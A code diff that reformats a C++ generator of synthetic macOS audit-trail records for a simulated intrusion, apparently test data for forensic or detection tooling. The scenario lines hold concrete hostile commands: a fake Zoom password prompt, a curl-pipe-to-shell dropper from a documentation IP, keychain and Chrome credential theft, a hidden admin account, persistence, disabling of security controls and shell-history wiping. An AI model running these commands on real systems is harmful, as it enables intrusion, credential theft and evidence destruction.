@@ -40,8 +40,14 @@ constexpr Millis at(unsigned h, unsigned m, unsigned s = 0, unsigned ms = 0)
 {
     return (midnight + h * 3600ull + m * 60ull + s) * 1000 + ms;
 }
-constexpr Millis seconds(unsigned s) { return s * 1000ull; }
-constexpr Millis minutes(unsigned m) { return m * 60000ull; }
+constexpr Millis seconds(unsigned s)
+{
+    return s * 1000ull;
+}
+constexpr Millis minutes(unsigned m)
+{
+    return m * 60000ull;
+}
 
 Bytes ip4(const char *text)
 {
@@ -67,7 +73,10 @@ public:
     }
     uint32_t between(uint32_t lo, uint32_t hi) { return lo + below(hi - lo + 1); }
     template <typename T>
-    const T &pick(const std::vector<T> &items) { return items[below(uint32_t(items.size()))]; }
+    const T &pick(const std::vector<T> &items)
+    {
+        return items[below(uint32_t(items.size()))];
+    }
 
 private:
     uint64_t m_state;
@@ -82,7 +91,7 @@ uint64_t hashOf(std::string_view text)
 
 struct Program {
     const char *path;
-    uint32_t signer; // 0 unsigned, 1 Apple platform binary, 2 developer
+    uint32_t signer;       // 0 unsigned, 1 Apple platform binary, 2 developer
     const char *signingID; // copies of one binary share it, and so their code hash
     const char *teamID = "";
     uint32_t owner = rootID;
@@ -95,22 +104,27 @@ constexpr Program cfprefsd{"/usr/sbin/cfprefsd", 1, "com.apple.cfprefsd.xpc.daem
 constexpr Program syslogd{"/usr/sbin/syslogd", 1, "com.apple.syslogd"};
 constexpr Program tccd{"/System/Library/PrivateFrameworks/TCC.framework/Support/tccd", 1, "com.apple.tccd"};
 constexpr Program timed{"/usr/libexec/timed", 1, "com.apple.timed"};
-constexpr Program softwareupdated{"/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", 1,
-                                  "com.apple.softwareupdated"};
-constexpr Program mdworker{"/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/"
-                           "mdworker_shared",
-                           1, "com.apple.mdworker_shared"};
+constexpr Program softwareupdated{"/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
+                                  1, "com.apple.softwareupdated"};
+constexpr Program mdworker{
+    "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/"
+    "mdworker_shared",
+    1, "com.apple.mdworker_shared"};
 constexpr Program loginwindow{"/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", 1,
                               "com.apple.loginwindow"};
 constexpr Program finder{"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", 1, "com.apple.finder"};
 constexpr Program dock{"/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", 1, "com.apple.dock"};
 constexpr Program safari{"/Applications/Safari.app/Contents/MacOS/Safari", 1, "com.apple.Safari"};
 constexpr Program mail{"/System/Applications/Mail.app/Contents/MacOS/Mail", 1, "com.apple.mail"};
-constexpr Program messenger{"/Applications/Signal.app/Contents/MacOS/Signal", 2, "org.whispersystems.signal-desktop", "K8QW2D7F3N"};
-constexpr Program editor{"/Applications/Sublime Text.app/Contents/MacOS/sublime_text", 2, "com.sublimetext.4", "Z6RT4N9QJ2"};
-constexpr Program terminal{"/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 1, "com.apple.Terminal"};
-constexpr Program archiveUtility{"/System/Library/CoreServices/Applications/Archive Utility.app/Contents/MacOS/Archive Utility", 1,
-                                 "com.apple.archiveutility"};
+constexpr Program messenger{"/Applications/Signal.app/Contents/MacOS/Signal", 2, "org.whispersystems.signal-desktop",
+                            "K8QW2D7F3N"};
+constexpr Program editor{"/Applications/Sublime Text.app/Contents/MacOS/sublime_text", 2, "com.sublimetext.4",
+                         "Z6RT4N9QJ2"};
+constexpr Program terminal{"/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 1,
+                           "com.apple.Terminal"};
+constexpr Program archiveUtility{
+    "/System/Library/CoreServices/Applications/Archive Utility.app/Contents/MacOS/Archive Utility", 1,
+    "com.apple.archiveutility"};
 constexpr Program login{"/usr/bin/login", 1, "com.apple.login"};
 constexpr Program sshd{"/usr/sbin/sshd", 1, "com.apple.sshd"};
 constexpr Program zsh{"/bin/zsh", 1, "com.apple.zsh"};
@@ -158,7 +172,8 @@ constexpr Program kmutil{"/usr/bin/kmutil", 1, "com.apple.kmutil"};
 constexpr Program log{"/usr/bin/log", 1, "com.apple.log"};
 constexpr Program audit{"/usr/sbin/audit", 1, "com.apple.audit"};
 // The intruder's tools: unsigned, written by orvik's account, or a root-owned copy of the shell.
-constexpr Program zoomUpdate{"/Users/orvik/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate", 0, "ZoomUpdate", "", orvikID};
+constexpr Program zoomUpdate{"/Users/orvik/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate", 0, "ZoomUpdate", "",
+                             orvikID};
 constexpr Program zoomsvc{"/private/tmp/.zs/zoomsvc", 0, "zoomsvc", "", orvikID};
 constexpr Program agent{"/Users/orvik/Library/Application Support/.zsvc", 0, "zoomsvc", "", orvikID};
 constexpr Program kcd{"/private/tmp/.zs/kcd", 0, "kcd", "", orvikID};
@@ -191,7 +206,10 @@ Endpoint inet(const char *address, uint16_t port)
 {
     return {std::string_view(address).find(':') == std::string_view::npos ? ip4(address) : ip6(address), port, {}};
 }
-Endpoint local(const char *path) { return {{}, 0, path}; }
+Endpoint local(const char *path)
+{
+    return {{}, 0, path};
+}
 
 // open(2) flavours and the flags argument each is recorded with.
 enum Open : uint16_t { readOnly = 72, writeOnly = 76, writeCreate = 77, writeTruncate = 79, readWrite = 80 };
@@ -211,7 +229,7 @@ const Bytes hostAddress = ip4("192.168.1.23");
 
 // What the first run of the day tells the second.
 struct Plan {
-    std::vector<uint32_t> pids; // in the order the processes were asked for
+    std::vector<uint32_t> pids;                         // in the order the processes were asked for
     std::vector<std::pair<Millis, int64_t>> clockSteps; // after each moment, times are written this much later
 };
 
@@ -283,7 +301,10 @@ public:
     {
         child.pid = newPid(t);
         TrailRecordBuilder r = record(43190, t);
-        r.arg(1, child.pid, "child PID").token(Token::execArgs(args)).path(program.path).token(attr(program.path, program.owner, 0100755));
+        r.arg(1, child.pid, "child PID")
+            .token(Token::execArgs(args))
+            .path(program.path)
+            .token(attr(program.path, program.owner, 0100755));
         add(t, r.token(subjectOf(spawner)).token(identity(program)).returnValue(0, 0));
         return child;
     }
@@ -317,7 +338,8 @@ public:
         exit(run(parent, t, program, args), t + lasting, status);
     }
 
-    void open(const Process &p, Millis t, uint16_t event, const std::string &path, uint32_t owner = orvikID, uint8_t error = 0)
+    void open(const Process &p, Millis t, uint16_t event, const std::string &path, uint32_t owner = orvikID,
+              uint8_t error = 0)
     {
         TrailRecordBuilder r = record(event, t);
         r.arg(2, openFlags(event), "flags").path(path);
@@ -369,7 +391,8 @@ public:
         add(t, r.token(subjectOf(p)).returnValue(error, error ? unset : 0));
     }
     // A user-space record (login, authentication, sudo, directory change) with its message.
-    void note(const Process &p, Millis t, uint16_t event, const std::string &text, uint8_t error = 0, bool withHost = false)
+    void note(const Process &p, Millis t, uint16_t event, const std::string &text, uint8_t error = 0,
+              bool withHost = false)
     {
         TrailRecordBuilder r = record(event, t);
         if (withHost) r.host(hostAddress);
@@ -404,7 +427,8 @@ public:
     // The records in the order they were written, between the two file tokens that name the trail file.
     Bytes bytes()
     {
-        std::stable_sort(m_records.begin(), m_records.end(), [](const auto &a, const auto &b) { return a.time < b.time; });
+        std::stable_sort(m_records.begin(), m_records.end(),
+                         [](const auto &a, const auto &b) { return a.time < b.time; });
         const Millis first = stamped(m_records.front().time), last = stamped(m_records.back().time);
         const std::string name = "/var/audit/" + stamp(first);
         Bytes out = Token::file(uint32_t(first / 1000), uint32_t(first % 1000), name + ".not_terminated");
@@ -534,7 +558,10 @@ private:
 const Process securityd{.pid = 121};
 const Process opendirectoryd{.pid = 134};
 
-Process daemonAs(uint32_t user) { return Process{}.actingAs(user, user == rootID ? wheel : user); }
+Process daemonAs(uint32_t user)
+{
+    return Process{}.actingAs(user, user == rootID ? wheel : user);
+}
 
 struct Session {
     Process user;  // orvik in this session
@@ -565,14 +592,19 @@ const std::string project = home + "/Projects/tidewatch";
 // ---- background work ----------------------------------------------------------------------------
 
 const std::vector<std::string> documents = {
-    home + "/Documents/Q1 budget.numbers",      home + "/Documents/tide tables 2025.pdf",
-    home + "/Documents/notes/standup.md",       home + "/Desktop/whiteboard.jpg",
-    project + "/README.md",                     project + "/src/parse.c",
-    project + "/src/station.c",                 home + "/Downloads/harbour-survey.pdf",
+    home + "/Documents/Q1 budget.numbers",
+    home + "/Documents/tide tables 2025.pdf",
+    home + "/Documents/notes/standup.md",
+    home + "/Desktop/whiteboard.jpg",
+    project + "/README.md",
+    project + "/src/parse.c",
+    project + "/src/station.c",
+    home + "/Downloads/harbour-survey.pdf",
     home + "/Pictures/Photos Library.photoslibrary/database/Photos.sqlite",
 };
 const std::vector<const char *> webHosts = {
-    "17.253.144.10", "140.82.121.4", "151.101.1.69", "104.16.132.229", "2606:4700::6810:84e5", "2a00:1450:4001:82b::200e",
+    "17.253.144.10",      "140.82.121.4",         "151.101.1.69",
+    "104.16.132.229",     "2606:4700::6810:84e5", "2a00:1450:4001:82b::200e",
     "2a04:4e42:400::347",
 };
 const std::vector<const char *> sources = {"src/parse.c", "src/station.c", "src/tide.c", "src/net.c", "src/main.c"};
@@ -583,36 +615,34 @@ void daemonChatter(Machine &m, Millis from, Millis to, bool userLoggedIn)
     Dice &d = tr.dice();
     for (Millis t = from; t < to; t += seconds(d.between(70, 260))) {
         switch (d.below(userLoggedIn ? 7 : 4)) {
-        case 0:
-            tr.connect(m.mdns, t, inet(d.below(3) ? "192.168.1.1" : "fd42:7a3b:19::1", 53));
-            break;
+        case 0: tr.connect(m.mdns, t, inet(d.below(3) ? "192.168.1.1" : "fd42:7a3b:19::1", 53)); break;
         case 1: {
             Process worker = tr.spawn(tr.launchd(), t, Bin::mdworker,
-                                      {Bin::mdworker.path, "-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"},
+                                      {Bin::mdworker.path, "-s", "mdworker", "-c", "MDSImporterWorker", "-m",
+                                       "com.apple.mdworker.shared"},
                                       daemonAs(spotlightID));
             const unsigned files = d.between(2, 4);
             for (unsigned i = 0; i < files; ++i) tr.open(worker, t + 40 + i * 25, readOnly, d.pick(documents));
             tr.exit(worker, t + seconds(d.between(8, 30)));
             break;
         }
-        case 2:
-            tr.open(m.syslogd, t, writeOnly, "/private/var/log/system.log", rootID);
-            break;
-        case 3:
-            tr.open(m.tccd, t, readOnly, "/Library/Application Support/com.apple.TCC/TCC.db", rootID);
-            break;
+        case 2: tr.open(m.syslogd, t, writeOnly, "/private/var/log/system.log", rootID); break;
+        case 3: tr.open(m.tccd, t, readOnly, "/Library/Application Support/com.apple.TCC/TCC.db", rootID); break;
         case 4:
             tr.open(m.cfprefsdUser, t, d.below(2) ? readOnly : writeTruncate,
-                    home + "/Library/Preferences/" + d.pick(std::vector<std::string>{"com.apple.dock.plist", "com.apple.finder.plist",
-                                                                                     "com.apple.Safari.plist", "com.apple.Terminal.plist"}));
+                    home + "/Library/Preferences/"
+                        + d.pick(std::vector<std::string>{"com.apple.dock.plist", "com.apple.finder.plist",
+                                                          "com.apple.Safari.plist", "com.apple.Terminal.plist"}));
             break;
         case 5:
             tr.connect(m.safari, t, local("/var/run/mDNSResponder"));
             tr.connect(m.safari, t + 35, inet(d.pick(webHosts), 443));
-            tr.open(m.safari, t + 180, writeCreate, home + "/Library/Caches/com.apple.Safari/fsCachedData/" + std::to_string(4400 + d.below(5000)));
+            tr.open(m.safari, t + 180, writeCreate,
+                    home + "/Library/Caches/com.apple.Safari/fsCachedData/" + std::to_string(4400 + d.below(5000)));
             break;
         default:
-            tr.connect(m.messenger, t, inet(d.below(2) ? "34.237.73.95" : "2600:1f18:631e:2f80::5", 443), d.below(12) ? 0 : 145);
+            tr.connect(m.messenger, t, inet(d.below(2) ? "34.237.73.95" : "2600:1f18:631e:2f80::5", 443),
+                       d.below(12) ? 0 : 145);
             break;
         }
         if (t % minutes(60) < seconds(200)) tr.connect(m.timed, t + 500, inet("17.253.4.253", 123));
@@ -629,11 +659,16 @@ const std::map<std::string, std::vector<std::string>> unitHeaders = {
     {"src/net.c",
      {"include/tide.h", "include/net.h", "stdio.h", "string.h", "errno.h", "unistd.h", "sys/types.h", "sys/socket.h",
       "netinet/in.h", "netdb.h"}},
-    {"src/main.c", {"include/tide.h", "include/parse.h", "include/station.h", "include/net.h", "stdio.h", "stdlib.h", "getopt.h"}},
+    {"src/main.c",
+     {"include/tide.h", "include/parse.h", "include/station.h", "include/net.h", "stdio.h", "stdlib.h", "getopt.h"}},
 };
-const std::string python = "/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/lib/python3.9/";
+const std::string python =
+    "/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/lib/python3.9/";
 
-std::string objectOf(const std::string &source) { return "build/" + source.substr(4, source.size() - 6) + ".o"; }
+std::string objectOf(const std::string &source)
+{
+    return "build/" + source.substr(4, source.size() - 6) + ".o";
+}
 
 // One compile: the unit, its headers (the project's include folder first, where the system's are
 // looked up in vain), a temporary assembly file, then the object.
@@ -653,8 +688,9 @@ void compile(Trail &tr, const Process &make, Millis c, const std::string &source
             tr.open(cc, t + 1, readOnly, sdk + header, rootID);
         }
     }
-    const std::string scratch = "/private/var/folders/7x/k2v9d0qn3zs1m4hd_5tq8w0r0000gn/T/" + source.substr(4, source.size() - 6)
-                                + "-" + std::to_string(100000 + d.below(900000)) + ".s";
+    const std::string scratch = "/private/var/folders/7x/k2v9d0qn3zs1m4hd_5tq8w0r0000gn/T/"
+                                + source.substr(4, source.size() - 6) + "-" + std::to_string(100000 + d.below(900000))
+                                + ".s";
     const Millis done = t + 300 + d.below(500);
     tr.open(cc, done - 120, writeCreate, scratch);
     tr.open(cc, done, writeCreate, project + "/" + object);
@@ -673,8 +709,8 @@ void devWork(Machine &m, Millis from, Millis to)
         case 0: {
             Process git = tr.run(shell, t, Bin::git, {"git", "status", "-sb"});
             Millis at = t + 9;
-            for (const char *file : {".git/HEAD", ".git/config", ".git/refs/heads/main", ".git/index", ".git/info/exclude",
-                                     ".gitignore", ".git/refs/remotes/origin/main"})
+            for (const char *file : {".git/HEAD", ".git/config", ".git/refs/heads/main", ".git/index",
+                                     ".git/info/exclude", ".gitignore", ".git/refs/remotes/origin/main"})
                 tr.open(git, at += 1 + d.below(4), readOnly, project + "/" + file);
             tr.openFolder(git, at + 3, project + "/src");
             tr.openFolder(git, at + 5, project + "/include");
@@ -684,7 +720,9 @@ void devWork(Machine &m, Millis from, Millis to)
         case 1: {
             Process git = tr.run(shell, t, Bin::git, {"git", "pull", "--rebase"});
             tr.open(git, t + 8, readOnly, project + "/.git/config");
-            Process ssh = tr.run(git, t + 20, Bin::ssh, {"ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com", "git-upload-pack 'orvik/tidewatch.git'"});
+            Process ssh = tr.run(git, t + 20, Bin::ssh,
+                                 {"ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com",
+                                  "git-upload-pack 'orvik/tidewatch.git'"});
             tr.open(ssh, t + 30, readOnly, home + "/.ssh/config");
             tr.open(ssh, t + 31, readOnly, home + "/.ssh/known_hosts");
             tr.connect(ssh, t + 60, inet("140.82.121.4", 22));
@@ -713,7 +751,8 @@ void devWork(Machine &m, Millis from, Millis to)
             command.push_back("-lm");
             Process ld = tr.run(make, link, Bin::clang, command);
             Millis at = link + 20;
-            for (const char *source : sources) tr.open(ld, at += 2 + d.below(3), readOnly, project + "/" + objectOf(source));
+            for (const char *source : sources)
+                tr.open(ld, at += 2 + d.below(3), readOnly, project + "/" + objectOf(source));
             tr.open(ld, at + 180, writeCreate, project + "/build/tidewatch");
             tr.exit(ld, at + 240);
             tr.exit(make, at + 260);
@@ -752,7 +791,8 @@ void devWork(Machine &m, Millis from, Millis to)
         case 6: {
             Process py = tr.run(shell, t, Bin::python3, {"python3", "scripts/plot_levels.py", "data/stations.csv"});
             Millis at = t + 60;
-            for (const char *module : {"encodings/__init__.py", "codecs.py", "os.py", "site.py", "csv.py", "datetime.py"})
+            for (const char *module :
+                 {"encodings/__init__.py", "codecs.py", "os.py", "site.py", "csv.py", "datetime.py"})
                 tr.open(py, at += 8 + d.below(20), readOnly, python + module, rootID);
             tr.open(py, at + 140, readOnly, project + "/scripts/plot_levels.py");
             tr.open(py, at + 200, readOnly, project + "/data/stations.csv");
@@ -786,8 +826,10 @@ void boot(Machine &m)
     m.timed = tr.spawn(launchd, at(5, 58, 11, 20), Bin::timed, {Bin::timed.path}, daemonAs(timedID));
     tr.connect(m.timed, at(5, 58, 11, 400), inet("17.253.4.253", 123));
     tr.stepClock(m.timed, at(5, 58, 11, 470), 2318); // the real-time clock ran behind the network's
-    m.softwareupdated = tr.spawn(launchd, at(5, 58, 12, 5), Bin::softwareupdated, {Bin::softwareupdated.path}, daemonAs(updateID));
-    m.loginwindow = tr.spawn(launchd, at(5, 58, 12, 300), Bin::loginwindow, {Bin::loginwindow.path, "console"}, daemonAs(rootID));
+    m.softwareupdated = tr.spawn(launchd, at(5, 58, 12, 5), Bin::softwareupdated, {Bin::softwareupdated.path},
+                                 daemonAs(updateID));
+    m.loginwindow = tr.spawn(launchd, at(5, 58, 12, 300), Bin::loginwindow, {Bin::loginwindow.path, "console"},
+                             daemonAs(rootID));
     m.loginwindow.sid = 100005;
     tr.open(m.syslogd, at(5, 58, 13), writeCreate, "/private/var/log/system.log", rootID);
 }
@@ -844,9 +886,11 @@ void softwareUpdateCheck(Machine &m)
     sudo = tr.run(m.console, at(11, 6, 15, 0), Bin::sudo, {"sudo", "softwareupdate", "-l"});
     sudo = sudo.actingAs(rootID, staff);
     sudo.ruid = orvikID;
-    tr.note(sudo, at(11, 6, 21, 120), 45028,
-            "orvik : TTY=ttys001 ; PWD=/Users/orvik/Projects/tidewatch ; USER=root ; COMMAND=/usr/sbin/softwareupdate -l");
-    Process update = tr.run(sudo.actingAs(rootID, wheel), at(11, 6, 21, 200), Bin::softwareupdate, {"softwareupdate", "-l"});
+    tr.note(
+        sudo, at(11, 6, 21, 120), 45028,
+        "orvik : TTY=ttys001 ; PWD=/Users/orvik/Projects/tidewatch ; USER=root ; COMMAND=/usr/sbin/softwareupdate -l");
+    Process update = tr.run(sudo.actingAs(rootID, wheel), at(11, 6, 21, 200), Bin::softwareupdate,
+                            {"softwareupdate", "-l"});
     tr.connect(m.softwareupdated, at(11, 6, 22, 0), inet("17.253.144.12", 443));
     tr.exit(update, at(11, 6, 58, 0));
     tr.exit(sudo, at(11, 6, 58, 40));
@@ -892,7 +936,8 @@ void phishing(Machine &m)
     tr.connect(m.safari, at(13, 38, 40, 0), inet("198.51.100.77", 443));
     tr.open(m.safari, at(13, 38, 44, 500), writeCreate, zip);
 
-    Process unzip = tr.spawn(tr.launchd(), at(13, 38, 51, 0), Bin::archiveUtility, {Bin::archiveUtility.path}, orvikIn(100017));
+    Process unzip = tr.spawn(tr.launchd(), at(13, 38, 51, 0), Bin::archiveUtility, {Bin::archiveUtility.path},
+                             orvikIn(100017));
     tr.open(unzip, at(13, 38, 51, 200), readOnly, zip);
     tr.makeFolder(unzip, at(13, 38, 51, 260), home + "/Downloads/ZoomUpdate.app");
     tr.open(unzip, at(13, 38, 51, 400), writeCreate, Bin::zoomUpdate.path);
@@ -900,13 +945,15 @@ void phishing(Machine &m)
     tr.exit(unzip, at(13, 38, 53, 0));
 
     Process lure = tr.spawn(m.finder, at(13, 39, 5, 0), Bin::zoomUpdate, {Bin::zoomUpdate.path}, orvikIn(100017));
-    Process prompt = tr.run(lure, at(13, 39, 6, 0), Bin::osascript,
-                            {"osascript", "-e",
-                             "display dialog \"Zoom needs to finish updating. Enter your password to continue.\" default answer \"\" "
-                             "with hidden answer with title \"Zoom Update\""});
+    Process prompt = tr.run(
+        lure, at(13, 39, 6, 0), Bin::osascript,
+        {"osascript", "-e",
+         "display dialog \"Zoom needs to finish updating. Enter your password to continue.\" default answer \"\" "
+         "with hidden answer with title \"Zoom Update\""});
     tr.exit(prompt, at(13, 39, 31, 0));
 
-    Process dropper = tr.run(lure, at(13, 39, 32, 0), Bin::sh, {"sh", "-c", "curl -fsSL http://198.51.100.23/i/boot.sh | sh"});
+    Process dropper = tr.run(lure, at(13, 39, 32, 0), Bin::sh,
+                             {"sh", "-c", "curl -fsSL http://198.51.100.23/i/boot.sh | sh"});
     Process fetch = tr.run(dropper, at(13, 39, 32, 20), Bin::curl, {"curl", "-fsSL", "http://198.51.100.23/i/boot.sh"});
     tr.connect(fetch, at(13, 39, 32, 60), inet("198.51.100.23", 80));
     tr.exit(fetch, at(13, 39, 32, 700));
@@ -914,11 +961,13 @@ void phishing(Machine &m)
     Process step = tr.run(script, at(13, 39, 33, 0), Bin::mkdir, {"mkdir", "-p", "/tmp/.zs"});
     tr.makeFolder(step, at(13, 39, 33, 10), "/private/tmp/.zs");
     tr.exit(step, at(13, 39, 33, 20));
-    step = tr.run(script, at(13, 39, 33, 40), Bin::curl, {"curl", "-fsSL", "-o", "/tmp/.zs/zsvc.b64", "http://198.51.100.23/i/zsvc.b64"});
+    step = tr.run(script, at(13, 39, 33, 40), Bin::curl,
+                  {"curl", "-fsSL", "-o", "/tmp/.zs/zsvc.b64", "http://198.51.100.23/i/zsvc.b64"});
     tr.connect(step, at(13, 39, 33, 80), inet("198.51.100.23", 80));
     tr.open(step, at(13, 39, 33, 300), writeCreate, "/private/tmp/.zs/zsvc.b64");
     tr.exit(step, at(13, 39, 35, 100));
-    step = tr.run(script, at(13, 39, 35, 200), Bin::base64, {"base64", "-d", "-i", "/tmp/.zs/zsvc.b64", "-o", "/tmp/.zs/zoomsvc"});
+    step = tr.run(script, at(13, 39, 35, 200), Bin::base64,
+                  {"base64", "-d", "-i", "/tmp/.zs/zsvc.b64", "-o", "/tmp/.zs/zoomsvc"});
     tr.open(step, at(13, 39, 35, 210), readOnly, "/private/tmp/.zs/zsvc.b64");
     tr.open(step, at(13, 39, 35, 215), writeCreate, Bin::zoomsvc.path);
     tr.exit(step, at(13, 39, 35, 300));
@@ -938,7 +987,8 @@ void phishing(Machine &m)
     tr.runBriefly(svc, at(13, 40, 2, 500), Bin::systemProfiler, {"system_profiler", "SPHardwareDataType"}, 1900);
     tr.runBriefly(svc, at(13, 40, 5, 0), Bin::csrutil, {"csrutil", "status"}, 60);
     tr.auditon(svc, at(13, 40, 6, 0), 222, 4, 1); // tries to quieten auditing; not root
-    Process sec = tr.run(svc, at(13, 40, 9, 0), Bin::security, {"security", "find-generic-password", "-ws", "Chrome Safe Storage"});
+    Process sec = tr.run(svc, at(13, 40, 9, 0), Bin::security,
+                         {"security", "find-generic-password", "-ws", "Chrome Safe Storage"});
     tr.exit(sec, at(13, 40, 14, 0));
     tr.open(svc, at(13, 40, 15, 0), readOnly, home + "/Library/Keychains/login.keychain-db");
     tr.open(svc, at(13, 40, 15, 300), readOnly, home + "/Library/Application Support/Google/Chrome/Default/Login Data");
@@ -971,7 +1021,7 @@ void intrusion(Machine &m)
 {
     Trail &tr = m.trail;
     const Bytes attacker = ip4("203.0.113.45");
-    const std::vector<const char *> guesses = {"admin", "root",    "admin",   "test", "guest", "orvik", "admin",
+    const std::vector<const char *> guesses = {"admin", "root",    "admin",  "test",  "guest", "orvik", "admin",
                                                "root",  "support", "ubuntu", "orvik", "orvik", "root",  "orvik"};
     Millis t = at(18, 47, 12, 0);
     for (size_t i = 0; i < guesses.size(); i += 3) {
@@ -981,7 +1031,8 @@ void intrusion(Machine &m)
         sshd.port = 50112 + uint32_t(i) * 7;
         for (size_t k = i; k < std::min(i + 3, guesses.size()); ++k) {
             t += seconds(tr.dice().between(4, 11)) + tr.dice().below(1000);
-            tr.note(sshd, t, 32800, std::string("sshd: password authentication failed for <") + guesses[k] + ">", 1, true);
+            tr.note(sshd, t, 32800, std::string("sshd: password authentication failed for <") + guesses[k] + ">", 1,
+                    true);
         }
         tr.exit(sshd, t + 300, 255);
         t += seconds(tr.dice().between(20, 40));
@@ -1022,7 +1073,8 @@ void intrusion(Machine &m)
     tr.runBriefly(root, t + seconds(9), Bin::dscl, {"dscl", ".", "-create", "/Users/_support", "UniqueID", "499"}, 150);
     tr.runBriefly(root, t + seconds(15), Bin::dscl, {"dscl", ".", "-create", "/Users/_support", "IsHidden", "1"}, 150);
     tr.runBriefly(root, t + seconds(21), Bin::dscl, {"dscl", ".", "-passwd", "/Users/_support", "Tr1dent!2025"}, 400);
-    tr.runBriefly(root, t + seconds(30), Bin::dseditgroup, {"dseditgroup", "-o", "edit", "-a", "_support", "-t", "user", "admin"}, 300);
+    tr.runBriefly(root, t + seconds(30), Bin::dseditgroup,
+                  {"dseditgroup", "-o", "edit", "-a", "_support", "-t", "user", "admin"}, 300);
     tr.note(opendirectoryd, t + seconds(30) + 250, 6514, "opendirectoryd: added <_support> to group admin");
     tr.open(root, t + seconds(44), writeCreate, "/private/etc/sudoers.d/_support", rootID);
 
@@ -1042,9 +1094,11 @@ void intrusion(Machine &m)
     tr.open(copy, t + 10, readOnly, "/private/tmp/.zs/d.plist", orvikID);
     tr.open(copy, t + 12, writeCreate, "/Library/LaunchDaemons/com.apple.zsvc.plist", rootID);
     tr.exit(copy, t + 40);
-    tr.runBriefly(root, t + seconds(6), Bin::launchctl, {"launchctl", "bootstrap", "system", "/Library/LaunchDaemons/com.apple.zsvc.plist"}, 90);
+    tr.runBriefly(root, t + seconds(6), Bin::launchctl,
+                  {"launchctl", "bootstrap", "system", "/Library/LaunchDaemons/com.apple.zsvc.plist"}, 90);
     Process prefs = tr.run(root, t + seconds(20), Bin::defaults,
-                           {"defaults", "write", "/Library/Preferences/com.apple.loginwindow", "LoginHook", "/Users/Shared/.zsvc-hook.sh"});
+                           {"defaults", "write", "/Library/Preferences/com.apple.loginwindow", "LoginHook",
+                            "/Users/Shared/.zsvc-hook.sh"});
     tr.open(m.cfprefsd, t + seconds(20) + 80, writeTruncate, "/Library/Preferences/com.apple.loginwindow.plist", rootID);
     tr.exit(prefs, t + seconds(20) + 120);
     Process cron = tr.run(root, t + seconds(31), Bin::crontab, {"crontab", "/tmp/.zs/cron"});
@@ -1057,12 +1111,14 @@ void intrusion(Machine &m)
     t = at(19, 18, 30, 0);
     tr.runBriefly(root, t, Bin::spctl, {"spctl", "--master-disable"}, 300);
     tr.runBriefly(root, t + seconds(8), Bin::csrutil, {"csrutil", "disable"}, 80, 1);
-    tr.runBriefly(root, t + seconds(15), Bin::socketfilterfw, {Bin::socketfilterfw.path, "--setglobalstate", "off"}, 200);
+    tr.runBriefly(root, t + seconds(15), Bin::socketfilterfw, {Bin::socketfilterfw.path, "--setglobalstate", "off"},
+                  200);
     tr.runBriefly(root, t + seconds(22), Bin::systemsetup, {"systemsetup", "-setremotelogin", "on"}, 900);
     Process reset = tr.run(root, t + seconds(30), Bin::tccutil, {"tccutil", "reset", "All"});
     tr.open(m.tccd, t + seconds(30) + 50, readWrite, "/Library/Application Support/com.apple.TCC/TCC.db", rootID);
     tr.exit(reset, t + seconds(30) + 100);
-    tr.runBriefly(root, t + seconds(41), Bin::kmutil, {"kmutil", "load", "-p", "/Library/Extensions/ZoomAudioDevice.kext"}, 1500, 1);
+    tr.runBriefly(root, t + seconds(41), Bin::kmutil,
+                  {"kmutil", "load", "-p", "/Library/Extensions/ZoomAudioDevice.kext"}, 1500, 1);
 
     // Secrets from memory, and a way back in.
     t = at(19, 21, 0, 0);
@@ -1103,12 +1159,14 @@ void intrusion(Machine &m)
     Process back = tr.run(user, t, Bin::backdoor, {"/Users/Shared/.zsvc-sh", "-p"});
     back = back.actingAs(orvikID, staff);
     back.euid = rootID;
-    Process wipe = tr.run(back, t + seconds(9), Bin::sh, {"sh", "-c", "rm ~/.zsh_history; rm -rf ~/.zsh_sessions; unset HISTFILE"});
+    Process wipe = tr.run(back, t + seconds(9), Bin::sh,
+                          {"sh", "-c", "rm ~/.zsh_history; rm -rf ~/.zsh_sessions; unset HISTFILE"});
     remove = tr.run(wipe, t + seconds(9) + 10, Bin::rm, {"rm", home + "/.zsh_history"});
     tr.unlink(remove, t + seconds(9) + 15, home + "/.zsh_history", orvikID);
     tr.exit(remove, t + seconds(9) + 20);
     remove = tr.run(wipe, t + seconds(9) + 30, Bin::rm, {"rm", "-rf", home + "/.zsh_sessions"});
-    tr.unlink(remove, t + seconds(9) + 35, home + "/.zsh_sessions/8C1D0E52-4F3B-4A8E-9B1C-0D6E2F7A9B31.session", orvikID);
+    tr.unlink(remove, t + seconds(9) + 35, home + "/.zsh_sessions/8C1D0E52-4F3B-4A8E-9B1C-0D6E2F7A9B31.session",
+              orvikID);
     tr.removeFolder(remove, t + seconds(9) + 37, home + "/.zsh_sessions", orvikID);
     tr.exit(remove, t + seconds(9) + 40);
     tr.exit(wipe, t + seconds(9) + 50);
